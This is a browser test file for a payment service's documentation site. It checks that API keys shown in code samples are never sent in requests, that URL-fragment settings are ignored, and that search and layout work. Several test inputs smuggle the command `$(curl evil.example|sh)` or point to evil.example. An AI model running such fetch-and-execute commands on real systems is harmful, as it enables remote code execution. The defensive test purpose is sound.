// The reference site in a browser: the code shows the settings of the demo shop and sends them nowhere, the
// chosen language stays, the search finds, and pages have no faults of layout or accessibility.
import { expect, it } from 'vitest';
import { startHarness } from '../harness/harness.ts';
import { startBrowser } from './driver/browser.ts';
import { layoutFaults, violations } from './driver/page-faults.ts';

const { service } = await startHarness();
const { newPage } = startBrowser();
const { baseUrl, merchant } = service;

it('the demo shop leads to the reference with its settings, which no request carries', async () => {
  const page = await newPage();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await page.goto(`${baseUrl}/?language=en`);
  await page.getByRole('link', { name: 'Guides and reference' }).click();
  await page.waitForURL(`${baseUrl}/docs/start.en`);
  const shown = page.locator('main figure:visible code');
  const codes = async () => (await shown.allTextContents()).join('\n');
  expect(await codes()).toContain(`curl "${baseUrl}/api/customer" -H "X-Api-Key: ${merchant.apiKey}"`);
  await page.getByLabel('Code').selectOption('TypeScript');
  expect(await codes()).toContain(`apiKey: "${merchant.apiKey}"`);
  await page.getByRole('link', { name: 'Refunds', exact: true }).first().click();
  await page.waitForURL('**/refund.en');
  expect(await codes()).toContain('await pay.refund.approve(refundId, {');
  expect(await codes()).not.toContain('curl');
  await page.getByLabel('Code').selectOption('curl');
  expect(await codes()).toContain(merchant.apiKey);
  expect(asked.filter((url) => url.includes('psk_'))).toEqual([]);
  expect(asked.filter((url) => !url.startsWith(`${baseUrl}/`))).toEqual([]);
  await page.context().close();
});

const SHELL = `${baseUrl}/$(curl evil.example|sh)`;
const OTHERS = {
  'a key of live payments': { PAYMENT_API_KEY: merchant.apiKey.replace('test', 'live') },
  'a text that is no key': { PAYMENT_API_KEY: 'psk_test_$(curl evil.example|sh)' },
  'a shorter key': { PAYMENT_API_KEY: merchant.apiKey.slice(0, -1) },
  'another address': { PAYMENT_URL: 'https://evil.example', PAYMENT_API_KEY: 'psk_test_x' },
  'another service of this machine': { PAYMENT_URL: 'http://localhost:1' },
  'an address with a command': { PAYMENT_URL: SHELL },
  'an address with a user': { PAYMENT_URL: baseUrl.replace('//', '//evil.example@') },
};

it.each(Object.entries(OTHERS))('%s in a link is shown nowhere', async (_, settings) => {
  const page = await newPage();
  await page.goto(`${baseUrl}/docs/start.en#${new URLSearchParams(settings).toString()}`);
  const text = await page.locator('main').textContent();
  expect(Object.values(settings).filter((value) => text?.includes(value))).toEqual([]);
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
  await page.context().close();
});

it('a service that is not on this machine takes no settings from a link', async () => {
  const page = await newPage();
  const pages = 'https://pay.shop.example';
  await page.route(`${pages}/**`, async (route) => {
    const { pathname, search } = new URL(route.request().url());
    await route.fulfill({ response: await page.request.get(`${baseUrl}${pathname}${search}`) });
  });
  const settings = new URLSearchParams({ PAYMENT_URL: baseUrl, PAYMENT_API_KEY: merchant.apiKey });
  await page.goto(`${pages}/docs/start.en#${settings.toString()}`);
  await page.locator('html.ready').waitFor();
  expect(await page.locator('main').textContent()).not.toContain(merchant.apiKey);
  expect(await page.evaluate(() => sessionStorage.length)).toBe(0);
  await page.context().close();
});

it('the search finds by keyboard, in Turkish also without its letters, and Escape ends it', async () => {
  const page = await newPage();
  await page.goto(`${baseUrl}/docs/start.tr`);
  await page.keyboard.press('/');
  await page.keyboard.type('iade olustur');
  await page.locator('#found a').first().waitFor();
  expect(await page.getByRole('status').textContent()).toMatch(/^\d+ sonuç$/);
  expect(await violations(page)).toEqual([]);
  await page.keyboard.press('Tab');
  await page.keyboard.press('Enter');
  await page.waitForURL('**/refund.tr#refundCreate');
  await page.keyboard.press('/');
  await page.keyboard.type('x');
  await page.keyboard.press('Escape');
  expect(await page.locator('#found').isVisible()).toBe(false);
  await page.context().close();
});

it.each(['en', 'tr'])('in %s what is found stays inside 320 pixels', async (language) => {
  const page = await newPage({ viewport: { width: 320, height: 640 } });
  await page.goto(`${baseUrl}/docs/start.${language}`);
  await page.getByRole('searchbox').fill('FIELD_IMMUTABLE recurringPaymentUpdate');
  await page.locator('#found a').first().waitFor();
  const box = await page.locator('#found').boundingBox();
  const isInside = box !== null && box.x >= 0 && box.x + box.width <= 320;
  const inner = await page.locator('#found').evaluate((list) => list.scrollWidth - list.clientWidth);
  expect({ box, isInside, inner }).toMatchObject({ isInside: true, inner: 0 });
  await page.context().close();
});

const NAMES = ['start.en', 'refund.tr', 'recurring-payment.en', 'states.tr', 'moving.tr'];

it.each([
  [360, 'dark'],
  [1440, 'light'],
] as const)('pages have no faults at %d pixels, %s', async (width, colorScheme) => {
  const page = await newPage({ viewport: { width, height: 800 }, colorScheme });
  for (const name of NAMES) {
    await page.goto(`${baseUrl}/docs/${name}`);
    const wide = (await layoutFaults(page)).filter((fault) => fault.startsWith('sideways'));
    expect([name, await violations(page), wide]).toEqual([name, [], []]);
  }
  await page.context().close();
});
